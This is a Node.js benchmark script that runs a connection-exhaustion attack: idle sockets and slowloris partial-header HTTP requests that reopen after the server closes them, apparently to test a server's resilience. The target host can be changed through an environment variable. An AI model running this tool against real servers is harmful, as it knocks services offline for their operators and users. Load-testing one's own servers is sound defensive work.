// Holds connections against a server, as one abusive client would: `idle` connections that
// never send a byte from one address and `slow` ones that send a header line every
// `lineEvery` ms and never finish (slowloris) from another, each reopened `reopenAfter` ms after
// the server closes it. Prints "ready" once every connection has been opened once, then runs until
// killed. A child process of its own, so its sockets and its event loop are not the server's.
//   node scripts/bench/connection-attack.mjs PORT IDLE IDLE_FROM SLOW SLOW_FROM [LINE_EVERY] [REOPEN_AFTER]
import net from 'node:net';

const [port, idle, idleFrom, slow, slowFrom, lineEvery = '5000', reopenAfter = '1000'] =
  process.argv.slice(2);
const host = process.env.ATTACK_HOST ?? '127.0.0.1';
const stats = { opened: 0, closedByServer: 0 };

function hold(localAddress, onConnect) {
  return new Promise((resolve) => {
    const socket = net.connect({ port: Number(port), host, localAddress });
    let timer;
    socket.on('connect', () => {
      stats.opened += 1;
      timer = onConnect(socket);
      resolve();
    });
    socket.on('data', () => {});
    socket.on('error', () => {});
    socket.on('close', () => {
      clearInterval(timer);
      stats.closedByServer += 1;
      resolve();
      setTimeout(() => void hold(localAddress, onConnect), Number(reopenAfter)).unref();
    });
  });
}

const slowLines = (socket) => {
  socket.write(`GET / HTTP/1.1\r\nHost: ${host}\r\n`);
  return setInterval(() => socket.write(`X-Slow-${Date.now()}: x\r\n`), Number(lineEvery));
};

async function openAll(count, localAddress, onConnect) {
  for (let i = 0; i < count; i += 100)
    await Promise.all(
      Array.from({ length: Math.min(100, count - i) }, () => hold(localAddress, onConnect)),
    );
}

await Promise.all([
  openAll(Number(idle), idleFrom, () => undefined),
  openAll(Number(slow), slowFrom, slowLines),
]);
console.log('ready', JSON.stringify(stats));
setInterval(() => console.error(JSON.stringify(stats)), 10_000).unref();
setInterval(() => {}, 1 << 30);
